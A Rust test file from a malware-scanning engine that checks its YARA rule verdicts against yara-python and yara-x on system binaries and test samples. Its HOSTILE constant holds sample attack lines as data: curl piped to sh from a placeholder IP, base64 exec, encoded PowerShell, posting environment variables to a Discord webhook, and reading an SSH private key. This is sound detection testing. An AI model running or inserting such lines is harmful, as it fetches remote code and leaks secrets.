//! Verdicts of engines that are not ours, on the same rules and the same files: PyPI's yara-python and
//! yara-x. All of `/usr/bin` and `/usr/lib` in `cargo xtask torture scan`.

use std::collections::BTreeMap;
use std::fs::{self, File};
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use detection::{Item, Limits, RulesFile, Unpacking};

use testkit::{Breadth, figure, foreign};

use crate::place::{Place, eicar, limits, worker};

/// A sample is scanned in seconds, also by a program that was not optimised.
const SAMPLE_BYTES_MAX: u64 = 200_000;

/// Which rules match which files; nothing of files that no rule matches.
type Verdicts = BTreeMap<PathBuf, Vec<String>>;

#[test]
fn verdicts_are_those_of_other_engines() {
    let place = Place::new();
    // Others open no containers, and what is not optimised takes its time.
    let unpacking = Unpacking { depth: 0, ..Unpacking::default() };
    let mut worker = worker(Limits { unpacking, file_time: Duration::from_secs(3600), ..limits(2) });
    let bundle = worker.assemble(&guarddog()).unwrap().bundle;
    let rules = place.file("bundle.yar", &bundle);
    worker.load(&bundle).unwrap();
    let files = files(&place);
    let mut items = files.iter().map(|path| Item { path: path.clone(), file: File::open(path).unwrap() });
    let (mut ours, mut bytes) = (Verdicts::new(), 0);
    let mut incomplete = Vec::new();
    worker
        .scan(&mut items, &mut |report| {
            bytes += report.bytes;
            if report.notes.iter().any(|note| note.inside.is_empty() && is_about_the_engine(note.code)) {
                incomplete.push(report.path.clone());
            }
            let matches = report.matches.into_iter().filter(|one| one.inside.is_empty());
            let mut names: Vec<String> = matches.map(|one| one.rule).collect();
            names.sort();
            if !names.is_empty() {
                ours.insert(report.path, names);
            }
        })
        .unwrap();
    assert_eq!(incomplete, [] as [PathBuf; 0], "files that were not scanned as a whole");
    assert!(ours.len() > 2, "rules that match nothing compare nothing: {ours:?}");
    figure("files and bytes that three engines agree on", format!("{} and {bytes}", files.len()));
    figure("files in which rules match", ours.len());
    for engine in ["yara", "yara-x"] {
        assert_eq!(verdicts(engine, &rules, &files), ours, "{engine}");
    }
}

/// What other engines do not have: containers, and bounds.
const fn is_about_the_engine(code: detection::NoteCode) -> bool {
    use detection::NoteCode::{Ended, Engine, Timeout, Unreadable};
    matches!(code, Ended | Engine | Timeout | Unreadable)
}

/// guarddog's rules, as a tree.
fn guarddog() -> Vec<RulesFile> {
    let folder = foreign::guarddog_rules();
    let settings = "product = \"guarddog\"\nsources = \"rules\"\nnotice = \"LICENSE\"\n\
                    imports = [\"math\", \"pe\", \"hash\", \"elf\", \"string\"]\n";
    let file = |path: &str, bytes: Vec<u8>| RulesFile { path: path.to_owned(), bytes };
    let mut files = vec![file("rules.toml", settings.into()), file("LICENSE", b"Apache-2.0\n".to_vec())];
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|it| it == "yar") {
            let name = path.file_name().unwrap().to_str().unwrap();
            files.push(file(&format!("rules/{name}"), fs::read(&path).unwrap()));
        }
    }
    assert!(files.len() > 40, "{} files of rules", files.len());
    files
}

fn files(place: &Place) -> Vec<PathBuf> {
    let breadth = Breadth::of_this_run();
    let mut files = Vec::new();
    let folders = if breadth == Breadth::Full { vec!["/usr/bin", "/usr/lib"] } else { vec!["/usr/bin"] };
    for folder in folders {
        collect(Path::new(folder), &mut files);
    }
    files.sort();
    if breadth == Breadth::Sample {
        files.retain(|path| fs::metadata(path).is_ok_and(|found| found.len() <= SAMPLE_BYTES_MAX));
        files = breadth.of(files, 5);
    }
    files.push(place.file("eicar.com", eicar().as_bytes()));
    files.push(place.file("empty", b""));
    files.push(place.file("hostile.py", HOSTILE));
    files
}

/// What rules for packages look for.
const HOSTILE: &[u8] = b"import os, base64, subprocess, requests, socket\n\
    exec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://203.0.113.7/x.sh | sh')\n\
    subprocess.Popen(['powershell', '-enc', 'AAAA'])\nrequests.post('https://discord.com/api/webhooks/1/x', data=os.environ)\n\
    open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";

/// Files that everybody can open; no links.
fn collect(folder: &Path, files: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let kind = entry.file_type().unwrap();
        // A path that is no text can't be told to the others.
        if entry.path().to_str().is_none_or(|path| path.contains('\n')) {
            continue;
        }
        if kind.is_dir() {
            collect(&entry.path(), files);
        } else if kind.is_file() && File::open(entry.path()).is_ok() {
            files.push(entry.path());
        }
    }
}

fn verdicts(engine: &str, rules: &Path, files: &[PathBuf]) -> Verdicts {
    let mut command = foreign::engine("scan.py");
    command.arg(engine).arg(rules).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let list: String = files.iter().map(|path| format!("{}\n", path.display())).collect();
    let mut stdin = child.stdin.take().unwrap();
    // It prints while it reads, so both at once.
    let writer = std::thread::spawn(move || stdin.write_all(list.as_bytes()));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert!(output.status.success(), "{engine}: {}", output.status);
    let mut verdicts = Verdicts::new();
    for line in String::from_utf8(output.stdout).unwrap().lines() {
        let value: serde_json::Value = serde_json::from_str(line).unwrap();
        if let (Some(path), Some(rules)) = (value["path"].as_str(), value["rules"].as_array()) {
            let rules = rules.iter().map(|rule| rule.as_str().unwrap().to_owned()).collect();
            verdicts.insert(PathBuf::from(path), rules);
        }
    }
    verdicts
}
